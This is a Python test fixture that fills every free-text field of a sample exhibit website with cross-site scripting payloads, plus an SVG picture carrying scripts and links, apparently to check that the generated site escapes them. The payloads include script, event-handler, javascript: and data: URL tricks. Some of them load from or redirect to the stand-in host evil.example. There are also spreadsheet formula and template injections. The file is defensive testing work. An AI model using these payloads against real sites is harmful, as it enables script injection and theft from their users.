"""A small exhibit with an XSS payload in every field that a curator fills in."""

from __future__ import annotations

import csv
import json
import shutil
from collections.abc import Iterator
from pathlib import Path
from typing import Any

from ruamel.yaml import YAML

from tests.exhibit_folders import SHIPPED, SMALL, add_tables

RUN = "top.RAN++"
"""What each payload tries to do: increment the page's global `RAN`, which begins at 0."""
EVIL = "https://evil.example/"
PAYLOADS: tuple[str, ...] = (
    f"<script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"<SCRIPT SRC={EVIL}x.js></SCRIPT>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<img src=x onerror={RUN}>",
    f"'><img src=x onerror={RUN}>",
    f'"><img src=x onerror={RUN}>',
    f"`\"'><svg/onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><a xlink:href='javascript:{RUN}'><text y=20>tap</text></a></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<math><mtext><style><img src=x onerror={RUN}></style></mtext></math>",
    f"<a href='javascript:{RUN}'>tap</a>",
    f"<a href='&#106;avascript:{RUN}'>tap</a>",
    f"<a href='java\tscript:{RUN}'>tap</a>",
    f"<a href='{EVIL}' target=_blank>tap</a>",
    "<a href='//evil.example' download>tap</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD50b3AuUkFOPTE8L3NjcmlwdD4='>tap</a>",
    f"<iframe srcdoc='<script>{RUN}</script>'></iframe>",
    f"<iframe src='{EVIL}'></iframe><embed src='//evil.example'>",
    f"<details open ontoggle={RUN}><summary>tap</summary></details>",
    f"<form action=//evil.example><input autofocus onfocus={RUN}><button>tap",
    f"<base href={EVIL}><link rel=stylesheet href=//evil.example>",
    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    f"<style>@import '//evil.example';*{{background:url({EVIL})}}</style>",
    f"red;background:url({EVIL});width:expression({RUN})",
    f"</style><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"--><script>{RUN}</script><!--",
    f"]]><script>{RUN}</script><![CDATA[",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;img src=x onerror={RUN}&#62;",
    f"[tap](javascript:{RUN}) [tap]({EVIL}) <{EVIL}>",
    f"![x]({EVIL}x.png)\n\n[tap][r]\n\n[r]: javascript:{RUN}",
    f"[tap]{{onclick={RUN}}} [tap]{{lang='x\" onclick=\"{RUN}'}}",
    f"{{{{7*7}}}}{{% for x in y %}}${{{RUN}}}#{{{RUN}}}<%= 7*7 %>",
    f"');{RUN};//",
    f'");{RUN};//',
    f"\\');{RUN};//\\",
    f"`${{{RUN}}}`",
    f"\u2028{RUN}\u2029",
    f'=HYPERLINK("{EVIL}","tap")',
    f"@SUM(1+1)*cmd|' /C {EVIL}'!A0",
    f"\u202egnp.<script>{RUN}</script>\u2066",
    f"javascript:{RUN}",
    f"x onmouseover={RUN} x=",
    f'x" onpointerdown="{RUN}" x=\'',
    f"<p style='position:fixed;inset:0;z-index:9' onpointerdown={RUN}>cover</p>",
)
DRAWING = f"""<svg xmlns="http://www.w3.org/2000/svg" width="640" height="240" onload="{RUN}">
  <script>{RUN}</script><a href="{EVIL}"><rect width="640" height="240" onclick="{RUN}"/></a>
  <image href="{EVIL}x.png" width="9" height="9"/><foreignObject><iframe src="{EVIL}"/></foreignObject>
</svg>"""
"""An SVG picture with scripts and links in it."""
FREE_TEXT_FIELDS = {
    *("title", "subtitle", "welcome", "name", "short_name", "epithet", "introduction", "doubt", "citation"),
    *("note", "toponym_en", "toponym_then", "alt_en", "creator", "source", "text", "title_en", "title_de"),
    *("toponym_de", "alt_de", "text_de", "coordinate_source", "name_en"),
    *("term", "also", "sentence", "question", "term_de", "also_de", "sentence_de", "question_de"),
    *("name_de", "line_de"),
}
"""Fields of free text, in whatever file they are."""
TYPED_FIELDS = {
    *("colour", "line", "marker", "born", "date", "certainty", "place", "chapter", "picture", "leg"),
    *("travel", "label", "width_m", "rank", "size", "angle", "people", "languages", "mentions"),
    *("file", "kind", "licence", "year", "wikidata", "country", "latitude", "precision", "id", "stop_a"),
}
"""Fields that accept only certain values: a payload there costs the row, and must do nothing more."""
SHIFT_WITHOUT_LOSS = 6
"""A shift at which no payload falls into a field that would cost a stop or a person: all six stops are
shown."""


class XssExhibit:
    """Fills the fields with payloads in turn. `shift` moves the sequence, so that each field gets another
    payload; `typed_field` is one field of `TYPED_FIELDS` to fill too; `count` is the number of filled
    fields."""

    def __init__(self, folder: Path, shift: int = 0, *, typed_field: str = "") -> None:
        self.folder = folder
        self.fields = FREE_TEXT_FIELDS | ({typed_field} if typed_field else set())
        self.count = 0
        self._sequence = self._payloads(shift)

    def _payloads(self, shift: int) -> Iterator[str]:
        while True:
            for number in range(len(PAYLOADS)):
                self.count += 1
                yield PAYLOADS[(number + shift) % len(PAYLOADS)]

    def write(self) -> XssExhibit:
        """Write the whole exhibit; what was in the folder is overwritten."""
        shutil.copytree(SMALL, self.folder, dirs_exist_ok=True)
        add_tables(self.folder)
        for file in ("basemap/lettering.csv", "plans/jura.geojson"):
            (self.folder / file).parent.mkdir(exist_ok=True)
            shutil.copy(SHIPPED / file, self.folder / file)
        (self.folder / "pictures" / "pier.svg").write_text(DRAWING, encoding="utf-8")
        for path in sorted(self.folder.rglob("*.csv")):
            self._fill_table(path)
        for path in sorted(self.folder.rglob("*.yaml")):
            fields = YAML(typ="safe").load(path.read_text(encoding="utf-8"))
            is_interface = path.parent.name == "words"
            _write_yaml(path, self._filled_interface(fields) if is_interface else self._filled(fields))
        for path in sorted(self.folder.glob("people/*/*.md")):
            self._fill_stop(path)
        for path in sorted(self.folder.glob("plans/*.geojson")):
            self._fill_plan(path)
        return self

    def _fill_table(self, path: Path) -> None:
        with path.open(encoding="utf-8", newline="") as file:
            rows = list(csv.DictReader(file))
        for row in rows:
            row.update({key: next(self._sequence) for key in row if key in self.fields})
        with path.open("w", encoding="utf-8", newline="") as file:
            writer = csv.DictWriter(file, rows[0].keys())
            writer.writeheader()
            writer.writerows(rows)

    def _filled(self, value: Any) -> Any:
        if isinstance(value, list):
            return [self._filled(each) for each in value]
        if not isinstance(value, dict):
            return value
        return {
            key: next(self._sequence) if key in self.fields else self._filled(below)
            for key, below in value.items()
        }

    def _filled_interface(self, strings: dict[str, Any]) -> dict[str, Any]:
        """Every interface string and each of its plural forms, followed by a payload. Its placeholders stay;
        the payload's braces are escaped, so that they are shown as braces."""
        return {key: text if key == "locale" else self._followed(text) for key, text in strings.items()}

    def _followed(self, text: Any) -> Any:
        if isinstance(text, dict):
            return {form: self._followed(each) for form, each in text.items()}
        return f"{text} " + next(self._sequence).replace("{", "{{").replace("}", "}}")

    def _fill_stop(self, path: Path) -> None:
        _, head, story = path.read_text(encoding="utf-8").split("---", 2)
        fields = self._filled(YAML(typ="safe").load(head))
        lines = [f"{key}: {json.dumps(value, default=str)}" for key, value in fields.items()]
        filled = f"{story.strip()}\n\n{next(self._sequence)}\n\n{next(self._sequence)}"
        path.write_text("\n".join(["---", *lines, "---", filled, ""]), encoding="utf-8")

    def _fill_plan(self, path: Path) -> None:
        plan = json.loads(path.read_text(encoding="utf-8"))
        for feature in plan["features"]:
            properties = feature["properties"]
            properties.update({key: next(self._sequence) for key in properties if key in self.fields})
        plan.update({"name": next(self._sequence), "title_en": next(self._sequence)})
        path.write_text(json.dumps(plan), encoding="utf-8")


def _write_yaml(path: Path, fields: dict[str, Any]) -> None:
    lines = [f"{key}: {json.dumps(value, default=str)}" for key, value in fields.items()]
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
